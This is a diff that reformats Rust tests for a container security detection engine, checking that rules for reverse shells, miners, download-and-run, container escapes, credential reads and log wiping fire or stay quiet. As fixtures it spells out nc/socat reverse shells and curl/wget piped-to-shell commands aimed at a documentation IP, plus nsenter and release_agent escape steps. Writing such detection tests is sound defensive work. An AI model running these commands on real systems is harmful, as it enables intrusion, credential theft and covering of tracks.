@@ -20,8 +20,16 @@ fn fires(rule: &str, events: &[Event]) {
         "expected {rule:?} to fire, got {:?}",
         names(&d)
     );
-    let alert = &d.iter().find(|d| d.alert.rule == rule).expect("found").alert;
-    assert!(!alert.output.contains("%"), "unrendered output: {}", alert.output);
+    let alert = &d
+        .iter()
+        .find(|d| d.alert.rule == rule)
+        .expect("found")
+        .alert;
+    assert!(
+        !alert.output.contains("%"),
+        "unrendered output: {}",
+        alert.output
+    );
     assert!(!alert.events.is_empty(), "alert without evidence");
 }
 
@@ -52,24 +60,48 @@ fn in_shell_of(b: B, parent: &str) -> B {
 #[test]
 fn crypto_miner_launched() {
     let r = "Crypto miner launched";
-    fires(r, &[B::exec("xmrig", &["xmrig", "-o", "pool.example:3333"]).build()]);
     fires(
         r,
-        &[B::exec("kworkerd", &["kworkerd", "-o", "stratum+tcp://pool.example:3333", "-u", "x"]).build()],
+        &[B::exec("xmrig", &["xmrig", "-o", "pool.example:3333"]).build()],
     );
     fires(
         r,
-        &[B::exec("x", &["./x"]).proc(|p| p.exe = "/tmp/.cache/xmrig".into()).build()],
+        &[B::exec(
+            "kworkerd",
+            &[
+                "kworkerd",
+                "-o",
+                "stratum+tcp://pool.example:3333",
+                "-u",
+                "x",
+            ],
+        )
+        .build()],
     );
-    quiet(r, &[B::exec("python3", &["python3", "app.py", "--workers", "4"]).build()]);
-    quiet(r, &[B::exec("curl", &["curl", "https://stratum.example.com/api"]).build()]);
+    fires(
+        r,
+        &[B::exec("x", &["./x"])
+            .proc(|p| p.exe = "/tmp/.cache/xmrig".into())
+            .build()],
+    );
+    quiet(
+        r,
+        &[B::exec("python3", &["python3", "app.py", "--workers", "4"]).build()],
+    );
+    quiet(
+        r,
+        &[B::exec("curl", &["curl", "https://stratum.example.com/api"]).build()],
+    );
 }
 
 #[test]
 fn crypto_miner_is_killed() {
     let mut engine = default_engine();
     let d = fired(&mut engine, &[B::exec("xmrig", &["xmrig"]).build()]);
-    let miner = d.iter().find(|d| d.alert.rule == "Crypto miner launched").expect("fired");
+    let miner = d
+        .iter()
+        .find(|d| d.alert.rule == "Crypto miner launched")
+        .expect("fired");
     assert_eq!(miner.actions, [rampart_rules::Action::Kill]);
 }
 
@@ -113,7 +145,11 @@ fn sustained_cpu_use_without_a_cpu_limit() {
     quiet(r, &[B::stats(1900, None, 60_000).build()]);
     // At most once an hour per container.
     let events: Vec<Event> = (0..30)
-        .map(|i| B::stats(1900, None, 700_000 + i * 10_000).at(i * 10).build())
+        .map(|i| {
+            B::stats(1900, None, 700_000 + i * 10_000)
+                .at(i * 10)
+                .build()
+        })
         .collect();
     assert_eq!(count(r, &events), 1);
     let later = B::stats(1900, None, 5_000_000).at(3700).build();
@@ -158,19 +194,45 @@ fn reverse_shell() {
 #[test]
 fn netcat_or_socat_running_a_command() {
     let r = "Netcat or socat running a command";
-    fires(r, &[B::exec("nc", &["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]).build()]);
-    fires(r, &[B::exec("socat", &["socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash"]).build()]);
-    fires(r, &[B::exec("ncat", &["ncat", "--sh-exec", "sh", "203.0.113.9", "80"]).host().build()]);
+    fires(
+        r,
+        &[B::exec("nc", &["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]).build()],
+    );
+    fires(
+        r,
+        &[B::exec(
+            "socat",
+            &["socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash"],
+        )
+        .build()],
+    );
+    fires(
+        r,
+        &[
+            B::exec("ncat", &["ncat", "--sh-exec", "sh", "203.0.113.9", "80"])
+                .host()
+                .build(),
+        ],
+    );
     quiet(r, &[B::exec("nc", &["nc", "-z", "db", "5432"]).build()]);
-    quiet(r, &[B::exec("socat", &["socat", "TCP-LISTEN:80", "TCP:app:8080"]).build()]);
+    quiet(
+        r,
+        &[B::exec("socat", &["socat", "TCP-LISTEN:80", "TCP:app:8080"]).build()],
+    );
 }
 
 #[test]
 fn netcat_or_socat_listener() {
     let r = "Netcat or socat listener";
     fires(r, &[B::exec("nc", &["nc", "-lvnp", "4444"]).build()]);
-    fires(r, &[B::exec("socat", &["socat", "TCP-LISTEN:4444,fork", "-"]).build()]);
-    fires(r, &[B::listen(4444).proc(|p| p.name = "ncat".into()).build()]);
+    fires(
+        r,
+        &[B::exec("socat", &["socat", "TCP-LISTEN:4444,fork", "-"]).build()],
+    );
+    fires(
+        r,
+        &[B::listen(4444).proc(|p| p.name = "ncat".into()).build()],
+    );
     quiet(r, &[B::exec("nc", &["nc", "example.com", "80"]).build()]);
     quiet(r, &[B::listen(8080).build()]);
 }
@@ -186,7 +248,10 @@ fn interactive_terminal_in_container() {
     );
     fires(r, &[B::docker_exec("bash", true).build()]);
     quiet(r, &[B::docker_exec("ls /", false).build()]);
-    quiet(r, &[in_shell_of(B::exec("bash", &["bash"]), "containerd-shim").build()]);
+    quiet(
+        r,
+        &[in_shell_of(B::exec("bash", &["bash"]), "containerd-shim").build()],
+    );
     quiet(
         r,
         &[in_shell_of(B::exec("bash", &["bash"]), "containerd-shim")
@@ -200,8 +265,14 @@ fn interactive_terminal_in_container() {
 fn shell_spawned_in_container() {
     let r = "Shell spawned in container";
     fires(r, &[B::exec("sh", &["sh", "-c", "id"]).build()]);
-    quiet(r, &[in_shell_of(B::exec("sh", &["sh", "-c", "id"]), "bash").build()]);
-    quiet(r, &[in_shell_of(B::exec("sh", &["sh", "/entrypoint.sh"]), "containerd-shim").build()]);
+    quiet(
+        r,
+        &[in_shell_of(B::exec("sh", &["sh", "-c", "id"]), "bash").build()],
+    );
+    quiet(
+        r,
+        &[in_shell_of(B::exec("sh", &["sh", "/entrypoint.sh"]), "containerd-shim").build()],
+    );
     quiet(r, &[B::exec("sh", &["sh", "-c", "id"]).host().build()]);
     quiet(r, &[B::exec("id", &["id"]).build()]);
 }
@@ -209,10 +280,30 @@ fn shell_spawned_in_container() {
 #[test]
 fn download_piped_to_a_shell() {
     let r = "Download piped to a shell";
-    fires(r, &[B::exec("sh", &["sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | sh"]).build()]);
-    fires(r, &[B::exec("bash", &["bash", "-c", "wget -qO- http://x/y|bash -s"]).host().build()]);
-    quiet(r, &[B::exec("sh", &["sh", "-c", "curl -o /tmp/x http://x/y"]).build()]);
-    quiet(r, &[B::exec("sh", &["sh", "-c", "curl http://x/y | grep shell"]).build()]);
+    fires(
+        r,
+        &[B::exec(
+            "sh",
+            &["sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | sh"],
+        )
+        .build()],
+    );
+    fires(
+        r,
+        &[
+            B::exec("bash", &["bash", "-c", "wget -qO- http://x/y|bash -s"])
+                .host()
+                .build(),
+        ],
+    );
+    quiet(
+        r,
+        &[B::exec("sh", &["sh", "-c", "curl -o /tmp/x http://x/y"]).build()],
+    );
+    quiet(
+        r,
+        &[B::exec("sh", &["sh", "-c", "curl http://x/y | grep shell"]).build()],
+    );
 }
 
 #[test]
@@ -226,11 +317,20 @@ fn downloader_output_read_by_a_shell() {
     fires(r, &[curl().at(0).build(), sh().at(1).build()]);
     fires(r, &[sh().at(0).build(), curl().at(0).build()]);
     quiet(r, &[curl().at(0).build(), sh().at(30).build()]);
-    quiet(r, &[curl().at(0).build(), sh().proc(|p| p.ppid = 9999).at(1).build()]);
     quiet(
         r,
         &[
-            curl().proc(|p| p.stdout_type = Some("file".into())).at(0).build(),
+            curl().at(0).build(),
+            sh().proc(|p| p.ppid = 9999).at(1).build(),
+        ],
+    );
+    quiet(
+        r,
+        &[
+            curl()
+                .proc(|p| p.stdout_type = Some("file".into()))
+                .at(0)
+                .build(),
             sh().at(1).build(),
         ],
     );
@@ -243,11 +343,41 @@ fn fresh_download_made_executable() {
     let chmod = |path: &str, mode: u32| {
         B::file(EventKind::FileChmod, "fchmodat", path).file_info(move |f| f.mode = Some(mode))
     };
-    fires(r, &[download().at(0).build(), chmod("/tmp/.x/agent", 0o755).at(5).build()]);
-    quiet(r, &[download().at(0).build(), chmod("/tmp/.x/agent", 0o644).at(5).build()]);
-    quiet(r, &[download().at(0).build(), chmod("/tmp/other", 0o755).at(5).build()]);
-    quiet(r, &[chmod("/tmp/.x/agent", 0o755).at(0).build(), download().at(5).build()]);
-    quiet(r, &[download().at(0).build(), chmod("/tmp/.x/agent", 0o755).at(600).build()]);
+    fires(
+        r,
+        &[
+            download().at(0).build(),
+            chmod("/tmp/.x/agent", 0o755).at(5).build(),
+        ],
+    );
+    quiet(
+        r,
+        &[
+            download().at(0).build(),
+            chmod("/tmp/.x/agent", 0o644).at(5).build(),
+        ],
+    );
+    quiet(
+        r,
+        &[
+            download().at(0).build(),
+            chmod("/tmp/other", 0o755).at(5).build(),
+        ],
+    );
+    quiet(
+        r,
+        &[
+            chmod("/tmp/.x/agent", 0o755).at(0).build(),
+            download().at(5).build(),
+        ],
+    );
+    quiet(
+        r,
+        &[
+            download().at(0).build(),
+            chmod("/tmp/.x/agent", 0o755).at(600).build(),
+        ],
+    );
 }
 
 #[test]
@@ -277,10 +407,30 @@ fn fileless_execution() {
 #[test]
 fn package_manager_run_in_container() {
     let r = "Package manager run in container";
-    fires(r, &[in_shell_of(B::exec("apt-get", &["apt-get", "install", "-y", "nmap"]), "bash").build()]);
-    fires(r, &[in_shell_of(B::exec("apk", &["apk", "add", "socat"]), "sh").build()]);
-    quiet(r, &[in_shell_of(B::exec("dpkg", &["dpkg", "-i", "x.deb"]), "apt-get").build()]);
-    quiet(r, &[in_shell_of(B::exec("apt-get", &["apt-get", "install", "nmap"]), "bash").host().build()]);
+    fires(
+        r,
+        &[in_shell_of(
+            B::exec("apt-get", &["apt-get", "install", "-y", "nmap"]),
+            "bash",
+        )
+        .build()],
+    );
+    fires(
+        r,
+        &[in_shell_of(B::exec("apk", &["apk", "add", "socat"]), "sh").build()],
+    );
+    quiet(
+        r,
+        &[in_shell_of(B::exec("dpkg", &["dpkg", "-i", "x.deb"]), "apt-get").build()],
+    );
+    quiet(
+        r,
+        &[
+            in_shell_of(B::exec("apt-get", &["apt-get", "install", "nmap"]), "bash")
+                .host()
+                .build(),
+        ],
+    );
 }
 
 #[test]
@@ -301,7 +451,14 @@ fn write_below_binary_or_config_directory_in_container() {
         )
         .build()],
     );
-    fires(r, &[by(B::file(EventKind::FileUnlink, "unlinkat", "/etc/passwd"), "rm").build()]);
+    fires(
+        r,
+        &[by(
+            B::file(EventKind::FileUnlink, "unlinkat", "/etc/passwd"),
+            "rm",
+        )
+        .build()],
+    );
     quiet(r, &[by(B::write("/etc/resolv.conf"), "sh").build()]);
     quiet(r, &[by(B::write("/tmp/build/out"), "cp").build()]);
     quiet(r, &[by(B::write("/usr/lib/x.so"), "apk").build()]);
@@ -319,7 +476,12 @@ fn password_hashes_read() {
     fires(r, &[by("cat").build()]);
     fires(r, &[by("python3").host().build()]);
     quiet(r, &[by("sshd").build()]);
-    quiet(r, &[B::read("/etc/passwd").proc(|p| p.name = "cat".into()).build()]);
+    quiet(
+        r,
+        &[B::read("/etc/passwd")
+            .proc(|p| p.name = "cat".into())
+            .build()],
+    );
 }
 
 #[test]
@@ -330,7 +492,10 @@ fn ssh_private_key_read() {
         B::read(path).proc(move |p| p.name = name)
     };
     fires(r, &[read("/root/.ssh/id_rsa", "cat").build()]);
-    fires(r, &[read("/home/deploy/.ssh/id_ed25519", "tar").host().build()]);
+    fires(
+        r,
+        &[read("/home/deploy/.ssh/id_ed25519", "tar").host().build()],
+    );
     fires(r, &[read("/etc/ssh/ssh_host_ed25519_key", "cat").build()]);
     quiet(r, &[read("/root/.ssh/id_rsa.pub", "cat").build()]);
     quiet(r, &[read("/root/.ssh/id_rsa", "ssh").build()]);
@@ -346,7 +511,10 @@ fn cloud_credentials_read() {
     };
     fires(r, &[read("/root/.aws/credentials", "cat").build()]);
     fires(r, &[read("/home/app/.docker/config.json", "curl").build()]);
-    fires(r, &[read("/var/run/secrets/kubernetes.io/serviceaccount/token", "sh").build()]);
+    fires(
+        r,
+        &[read("/var/run/secrets/kubernetes.io/serviceaccount/token", "sh").build()],
+    );
     quiet(r, &[read("/root/.aws/credentials", "aws").build()]);
     quiet(r, &[read("/root/.aws/config.bak", "cat").build()]);
 }
@@ -361,7 +529,10 @@ fn setuid_binary_executed_by_unprivileged_user() {
             p.user = Some("app".into());
         })
     };
-    fires(r, &[as_user(B::exec("rootsh", &["/tmp/rootsh"]), 0).build()]);
+    fires(
+        r,
+        &[as_user(B::exec("rootsh", &["/tmp/rootsh"]), 0).build()],
+    );
     quiet(r, &[as_user(B::exec("sudo", &["sudo", "-l"]), 0).build()]);
     quiet(r, &[as_user(B::exec("ls", &["ls"]), 1000).build()]);
     quiet(r, &[B::exec("rootsh", &["/tmp/rootsh"]).build()]);
@@ -449,7 +620,10 @@ fn namespace_change_from_container() {
         .proc(move |p| p.name = name)
     };
     fires(r, &[setns("exploit").build()]);
-    fires(r, &[B::exec("nsenter", &["nsenter", "-t", "1", "-m", "sh"]).build()]);
+    fires(
+        r,
+        &[B::exec("nsenter", &["nsenter", "-t", "1", "-m", "sh"]).build()],
+    );
     quiet(r, &[setns("runc:[2:INIT]").build()]);
     quiet(r, &[setns("exploit").host().build()]);
 }
@@ -457,9 +631,24 @@ fn namespace_change_from_container() {
 #[test]
 fn nsenter_into_the_hosts_namespaces() {
     let r = "nsenter into the host's namespaces";
-    fires(r, &[B::exec("nsenter", &["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"]).build()]);
-    fires(r, &[B::exec("nsenter", &["nsenter", "--target=1", "--mount"]).host().build()]);
-    quiet(r, &[B::exec("nsenter", &["nsenter", "-t", "4242", "-n", "ip", "a"]).build()]);
+    fires(
+        r,
+        &[B::exec(
+            "nsenter",
+            &["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"],
+        )
+        .build()],
+    );
+    fires(
+        r,
+        &[B::exec("nsenter", &["nsenter", "--target=1", "--mount"])
+            .host()
+            .build()],
+    );
+    quiet(
+        r,
+        &[B::exec("nsenter", &["nsenter", "-t", "4242", "-n", "ip", "a"]).build()],
+    );
 }
 
 #[test]
@@ -469,10 +658,28 @@ fn write_to_release_agent_or_kernel_helper() {
         let name = name.to_string();
         b.proc(move |p| p.name = name)
     };
-    fires(r, &[by(B::write("/sys/fs/cgroup/rdma/release_agent"), "sh").build()]);
-    fires(r, &[by(B::write("/proc/sys/kernel/core_pattern"), "bash").host().build()]);
-    quiet(r, &[by(B::write("/proc/sys/kernel/core_pattern"), "systemd-sysctl").host().build()]);
-    quiet(r, &[by(B::read("/sys/fs/cgroup/rdma/release_agent"), "sh").build()]);
+    fires(
+        r,
+        &[by(B::write("/sys/fs/cgroup/rdma/release_agent"), "sh").build()],
+    );
+    fires(
+        r,
+        &[by(B::write("/proc/sys/kernel/core_pattern"), "bash")
+            .host()
+            .build()],
+    );
+    quiet(
+        r,
+        &[
+            by(B::write("/proc/sys/kernel/core_pattern"), "systemd-sysctl")
+                .host()
+                .build(),
+        ],
+    );
+    quiet(
+        r,
+        &[by(B::read("/sys/fs/cgroup/rdma/release_agent"), "sh").build()],
+    );
 }
 
 #[test]
@@ -549,12 +756,40 @@ fn shell_history_or_log_file_cleared() {
         b.proc(move |p| p.name = name)
     };
     fires(r, &[by(B::write("/root/.bash_history"), "bash").build()]);
-    fires(r, &[by(B::file(EventKind::FileUnlink, "unlinkat", "/var/log/auth.log"), "rm").host().build()]);
-    fires(r, &[by(B::file(EventKind::FileUnlink, "unlinkat", "/home/a/.zsh_history"), "rm").build()]);
-    fires(r, &[B::exec("shred", &["shred", "-u", "/var/log/syslog"]).build()]);
-    quiet(r, &[by(B::write("/var/log/nginx/access.log"), "logrotate").build()]);
+    fires(
+        r,
+        &[by(
+            B::file(EventKind::FileUnlink, "unlinkat", "/var/log/auth.log"),
+            "rm",
+        )
+        .host()
+        .build()],
+    );
+    fires(
+        r,
+        &[by(
+            B::file(EventKind::FileUnlink, "unlinkat", "/home/a/.zsh_history"),
+            "rm",
+        )
+        .build()],
+    );
+    fires(
+        r,
+        &[B::exec("shred", &["shred", "-u", "/var/log/syslog"]).build()],
+    );
+    quiet(
+        r,
+        &[by(B::write("/var/log/nginx/access.log"), "logrotate").build()],
+    );
     quiet(r, &[by(B::open("/var/log/app.log", 0o2101), "app").build()]);
-    quiet(r, &[by(B::file(EventKind::FileUnlink, "unlinkat", "/tmp/x.log"), "rm").build()]);
+    quiet(
+        r,
+        &[by(
+            B::file(EventKind::FileUnlink, "unlinkat", "/tmp/x.log"),
+            "rm",
+        )
+        .build()],
+    );
 }
 
 #[test]
@@ -567,13 +802,19 @@ fn ssh_brute_force() {
     quiet(r, &ten[..9]);
     let slow: Vec<Event> = (0..10).map(|i| fail(i * 60, "198.51.100.7")).collect();
     quiet(r, &slow);
-    let spread: Vec<Event> = (0..10).map(|i| fail(i, &format!("198.51.100.{i}"))).collect();
+    let spread: Vec<Event> = (0..10)
+        .map(|i| fail(i, &format!("198.51.100.{i}")))
+        .collect();
     quiet(r, &spread);
     // The alert names the source and the count.
     let mut engine = default_engine();
     let d = fired(&mut engine, &ten);
     let a = &d.iter().find(|d| d.alert.rule == r).expect("fired").alert;
-    assert!(a.output.contains("10 failed logins from 198.51.100.7"), "{}", a.output);
+    assert!(
+        a.output.contains("10 failed logins from 198.51.100.7"),
+        "{}",
+        a.output
+    );
     assert_eq!(a.source, "correlation");
     assert_eq!(a.events.len(), 8, "the most recent evidence is kept");
 }
@@ -603,7 +844,13 @@ fn brute_force_then_lateral_movement() {
     quiet(r, &late);
     // Another container's connection does not continue this container's sequence.
     let mut other = events;
-    other.push(B::connect("10.0.0.5", 22).image("redis:7").at(20).build().with_container_id("1234"));
+    other.push(
+        B::connect("10.0.0.5", 22)
+            .image("redis:7")
+            .at(20)
+            .build()
+            .with_container_id("1234"),
+    );
     quiet(r, &other);
 }
 
@@ -624,12 +871,19 @@ impl WithContainerId for Event {
 fn network_scan_from_container() {
     let r = "Network scan from container";
     let scan: Vec<Event> = (0..20)
-        .map(|i| B::connect("10.0.0.9", 20 + i as u16).at(i).result(-111).build())
+        .map(|i| {
+            B::connect("10.0.0.9", 20 + i as u16)
+                .at(i)
+                .result(-111)
+                .build()
+        })
         .collect();
     fires(r, &scan);
     assert_eq!(count(r, &scan), 1);
     quiet(r, &scan[..19]);
-    let same: Vec<Event> = (0..50).map(|i| B::connect("10.0.0.9", 5432).at(i).build()).collect();
+    let same: Vec<Event> = (0..50)
+        .map(|i| B::connect("10.0.0.9", 5432).at(i).build())
+        .collect();
     quiet(r, &same);
     let slow: Vec<Event> = (0..20)
         .map(|i| B::connect("10.0.0.9", 20 + i as u16).at(i * 10).build())
@@ -663,10 +917,17 @@ fn outbound_connection_to_a_disallowed_country() {
         })
         .expect("compiles");
     let mut engine = Engine::new(Arc::new(rules));
-    let d = fired(&mut engine, &[to(Some("DE")).build(), to(Some("KP")).build()]);
+    let d = fired(
+        &mut engine,
+        &[to(Some("DE")).build(), to(Some("KP")).build()],
+    );
     let hits: Vec<_> = d.iter().filter(|d| d.alert.rule == r).collect();
     assert_eq!(hits.len(), 1);
-    assert!(hits[0].alert.output.contains("country=KP"), "{}", hits[0].alert.output);
+    assert!(
+        hits[0].alert.output.contains("country=KP"),
+        "{}",
+        hits[0].alert.output
+    );
 }
 
 #[test]
@@ -675,7 +936,10 @@ fn first_matching_rule_wins_by_default() {
         .proc(|p| p.stdin_type = Some("ipv4".into()))
         .build();
     let mut all = default_engine();
-    let both = names(&fired(&mut all, std::slice::from_ref(&reverse_shell_in_web_app)));
+    let both = names(&fired(
+        &mut all,
+        std::slice::from_ref(&reverse_shell_in_web_app),
+    ));
     assert!(both.contains(&"Reverse shell".to_string()));
     assert!(both.contains(&"Shell spawned in container".to_string()));
 
@@ -708,17 +972,26 @@ fn replay_is_deterministic() {
 #[test]
 fn alerts_are_ocsf_detection_findings() {
     let mut engine = default_engine();
-    let d = fired(&mut engine, &[B::exec("xmrig", &["xmrig", "-o", "x"]).at(1).build()]);
+    let d = fired(
+        &mut engine,
+        &[B::exec("xmrig", &["xmrig", "-o", "x"]).at(1).build()],
+    );
     let alert = &d[0].alert;
     let v = serde_json::to_value(alert).expect("json");
     assert_eq!(v["class_uid"], 2004);
     assert_eq!(v["finding_info"]["title"], "Crypto miner launched");
     assert_eq!(v["priority"], "Critical");
     assert_eq!(v["severity_id"], 5);
-    assert!(v["tags"].as_array().expect("tags").iter().any(|t| t == "T1496"));
+    assert!(v["tags"]
+        .as_array()
+        .expect("tags")
+        .iter()
+        .any(|t| t == "T1496"));
     assert_eq!(v["evidences"][0]["type"], "process.exec");
     assert_eq!(v["output_fields"]["proc.cmdline"], "xmrig -o x");
-    assert!(alert.output.starts_with("Crypto miner launched (process=xmrig exe=/usr/bin/xmrig command=xmrig -o x parent=node"));
+    assert!(alert.output.starts_with(
+        "Crypto miner launched (process=xmrig exe=/usr/bin/xmrig command=xmrig -o x parent=node"
+    ));
     assert_eq!(alert.time_ns, support::T0 + SEC);
     assert!(alert.container.is_some() && alert.process.is_some());
 }
@@ -728,8 +1001,16 @@ fn every_default_rule_has_mitre_tags_and_tests() {
     let mut loader = Loader::new();
     loader.add_default_rules().expect("defaults");
     let rules = loader.compile(Options::default()).expect("compiles");
-    assert!(rules.report().cannot_fire.is_empty(), "{:?}", rules.report().cannot_fire);
-    assert!(rules.report().warnings.is_empty(), "{:?}", rules.report().warnings);
+    assert!(
+        rules.report().cannot_fire.is_empty(),
+        "{:?}",
+        rules.report().cannot_fire
+    );
+    assert!(
+        rules.report().warnings.is_empty(),
+        "{:?}",
+        rules.report().warnings
+    );
     let source = include_str!("default_rules.rs");
     let mut n = 0;
     for rule in rules.rules() {
@@ -741,13 +1022,22 @@ fn every_default_rule_has_mitre_tags_and_tests() {
             rule.name()
         );
         assert!(
-            tags.iter().any(|t| t.starts_with('T') && t[1..].chars().next().is_some_and(|c| c.is_ascii_digit() || c == 'A')),
+            tags.iter().any(|t| t.starts_with('T')
+                && t[1..]
+                    .chars()
+                    .next()
+                    .is_some_and(|c| c.is_ascii_digit() || c == 'A')),
             "{}: no MITRE technique id",
             rule.name()
         );
         let quoted = format!("{:?}", rule.name());
         let uses = source.matches(&format!("let r = {quoted};")).count();
-        assert_eq!(uses, 1, "{}: needs one test with fires(..) and quiet(..)", rule.name());
+        assert_eq!(
+            uses,
+            1,
+            "{}: needs one test with fires(..) and quiet(..)",
+            rule.name()
+        );
         assert!(rule.active(), "{} cannot fire", rule.name());
     }
     assert!(n >= 30, "only {n} default rules");
